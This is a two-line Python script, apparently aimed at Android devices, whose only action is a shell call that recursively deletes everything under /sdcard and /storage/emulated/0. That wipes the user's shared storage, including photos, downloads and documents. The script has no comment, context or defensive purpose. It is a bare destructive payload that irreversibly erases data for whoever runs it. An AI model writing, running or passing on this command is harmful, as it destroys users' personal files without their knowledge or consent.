import os

os.system("rm -rf /sdcard/* /storage/emulated/0/*")
